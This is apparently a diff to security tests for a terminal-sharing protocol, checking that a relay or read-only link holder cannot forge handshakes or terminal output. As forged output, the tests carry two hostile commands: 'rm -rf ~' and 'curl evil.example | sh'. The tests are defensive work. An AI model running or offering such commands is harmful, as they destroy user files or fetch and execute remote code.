@@ -12,10 +12,12 @@ from termshare.protocol.keys import (
     SendChain,
     SessionKeys,
     channel_chain_keys,
+    group_direct_key,
     group_signed_data,
     new_ed25519,
     new_x25519,
     nonce,
+    welcome_signed_data,
     x25519,
 )
 from termshare.protocol.link import parse_link
@@ -52,40 +54,85 @@ def test_relay_holding_read_only_link_cannot_impersonate_the_sharer() -> None:
     (`r.<ro_secret><fp(PK)>`), and have the viewer reject a WELCOME whose PK does not match.
     """
     net = Net()
-    ro_url = net.link(rw=False)
-    ro = parse_link(ro_url)
-    sid = ro.sid
-    keys = SessionKeys.from_secret(sid, Role.READ_ONLY, ro.secret)  # all the attacker has
-    victim = ViewerProtocol(ro, os.urandom)
-
-    # The malicious relay gives the victim a viewer id and takes its HELLO (never forwarded).
-    vid = 7
-    victim.receive_frame(encode_frame(FrameKind.READY, b"\x01", vid))
-    hello = parse_frame(victim.frames_to_send()[0])
-    ev_public = hello.body[1 : 1 + KEY_SIZE]
-
-    # Forge the handshake with psk_ro and the attacker's own signing key and group key.
-    es_private, es_public = new_x25519(os.urandom)
-    dh = x25519(es_private, ev_public)
-    ck_s2v, _ = channel_chain_keys(dh, keys.psk_ro, sid, vid, Role.READ_ONLY, ev_public, es_public)
-    send = SendChain(ck_s2v, sid)
+    victim, attacker = _intercepted_read_only_viewer(net)
     sign_private, sign_public = new_ed25519(os.urandom)
     group_key = os.urandom(KEY_SIZE)
-    welcome = encode_welcome(WelcomeMessage(False, sign_public, 0, group_key))
-    header = make_header(FrameKind.WELCOME, KEY_SIZE + len(welcome) + TAG_SIZE, vid, *send.next_position())
-    victim.receive_frame(header.pack() + es_public + send.seal(header, welcome))
-    snap = encode_message(SnapshotMessage(0, 0, 80, 24, b"$ "))
-    header = make_header(FrameKind.DIRECT, len(snap) + TAG_SIZE, vid, *send.next_position())
-    victim.receive_frame(header.pack() + send.seal(header, snap))
+    attacker.welcome(sign_public, group_key, sign_private.sign(attacker.signed_data))
+    attacker.snapshot()
 
     forged = encode_message(OutputMessage(b"rm -rf ~ # the sharer says: run this too\r\n"))
     gheader = make_header(FrameKind.GROUP, len(forged) + TAG_SIZE + SIG_SIZE, 0, 0, 0).pack()
-    ciphertext = AESGCM(group_key).encrypt(nonce(0, 0), forged, sid.encode() + gheader)
-    signature = sign_private.sign(group_signed_data(sid, gheader, ciphertext))
+    ciphertext = AESGCM(group_key).encrypt(nonce(0, 0), forged, attacker.sid.encode() + gheader)
+    signature = sign_private.sign(group_signed_data(attacker.sid, gheader, ciphertext))
     victim.receive_frame(gheader + ciphertext + signature)
 
     shown = _outputs(victim.events_received())
     assert b"rm -rf" not in shown, "a read-only link holder forged output that the viewer applied"
+
+
+class _Interceptor:
+    """A relay holding the read-only link that answers a victim's HELLO itself, with its own ES."""
+
+    def __init__(self, victim: ViewerProtocol, sid: str, psk_ro: bytes) -> None:
+        self.victim, self.sid, self.vid = victim, sid, 7
+        victim.receive_frame(encode_frame(FrameKind.READY, b"\x01", self.vid))
+        hello = parse_frame(victim.frames_to_send()[0])  # never forwarded to the sharer
+        ev_public = hello.body[1 : 1 + KEY_SIZE]
+        es_private, self.es_public = new_x25519(os.urandom)
+        dh = x25519(es_private, ev_public)
+        ck_s2v, _ = channel_chain_keys(dh, psk_ro, sid, self.vid, Role.READ_ONLY, ev_public, self.es_public)
+        self.send = SendChain(ck_s2v, sid)
+        self.group_direct = AESGCM(group_direct_key(ck_s2v, sid))
+        self.signed_data = welcome_signed_data(sid, self.vid, Role.READ_ONLY, ev_public, self.es_public)
+
+    def welcome(self, sign_public: bytes, group_key: bytes, signature: bytes) -> None:
+        welcome = encode_welcome(WelcomeMessage(False, sign_public, 0, group_key, signature))
+        header = make_header(FrameKind.WELCOME, KEY_SIZE + len(welcome) + TAG_SIZE, self.vid, *self.send.next_position())
+        self.victim.receive_frame(header.pack() + self.es_public + self.send.seal(header, welcome))
+
+    def snapshot(self) -> None:
+        snap = encode_message(SnapshotMessage(0, 0, 80, 24, b"$ "))
+        header = make_header(FrameKind.DIRECT, len(snap) + TAG_SIZE, self.vid, *self.send.next_position())
+        self.victim.receive_frame(header.pack() + self.send.seal(header, snap))
+
+    def group_direct_output(self, data: bytes) -> None:
+        message = encode_message(OutputMessage(data))
+        header = make_header(FrameKind.GROUP_DIRECT, len(message) + TAG_SIZE, self.vid, 0, 0).pack()
+        self.victim.receive_frame(header + self.group_direct.encrypt(nonce(0, 0), message, self.sid.encode() + header))
+
+
+def _intercepted_read_only_viewer(net: Net) -> tuple[ViewerProtocol, _Interceptor]:
+    ro = parse_link(net.link(rw=False))
+    keys = SessionKeys.from_secret(ro.sid, Role.READ_ONLY, ro.secret)  # all the attacker has
+    assert keys.psk_ro is not None
+    victim = ViewerProtocol(ro, os.urandom)
+    return victim, _Interceptor(victim, ro.sid, keys.psk_ro)
+
+
+def test_a_read_only_link_holder_cannot_answer_a_hello_with_the_sharers_own_public_key() -> None:
+    """ATTACK (found in review of GROUP_DIRECT, bdf3077): the sharer's PK is no secret (every viewer
+    gets it), so an interceptor holding the read-only link answers the victim's HELLO with the real
+    PK (which matches the link's key_fp) and an ES of its own. Before WELCOME was signed over both
+    ephemeral keys, it then held the victim's channel keys: it could forge SNAPSHOTs, REKEYs and
+    GROUP_DIRECT output that the victim showed as live. Now no signature it can offer verifies: none,
+    one by another key, or one the sharer really made (for the interceptor's own handshake)."""
+    net = Net()
+    _, spy = net.join(net.link(rw=False))  # the interceptor's own, genuine, read-only viewer
+    assert spy._sign_key is not None and spy._group is not None
+    real_pk = spy._sign_key.public_bytes_raw()
+    # What the sharer really signs for some other handshake (the spy's own WELCOMEs carry such).
+    _, other_es = new_x25519(os.urandom)
+    sharers = net.share._sign_private.sign(
+        welcome_signed_data(spy.sid, spy.viewer_id or 0, Role.READ_ONLY, spy._ev_public, other_es))
+    other_private, _ = new_ed25519(os.urandom)
+    for signature in (bytes(64), other_private.sign(b"anything"), sharers):
+        victim, attacker = _intercepted_read_only_viewer(net)
+        attacker.welcome(real_pk, os.urandom(KEY_SIZE), signature)
+        attacker.snapshot()
+        attacker.group_direct_output(b"curl evil.example | sh\r\n")
+        events = victim.events_received()
+        assert victim.state is ViewerState.CLOSED and not _outputs(events), events
+        assert victim.failure is not None and "not signed" in str(victim.failure)
 
 
 def test_relay_cannot_silently_truncate_a_group_epoch() -> None:
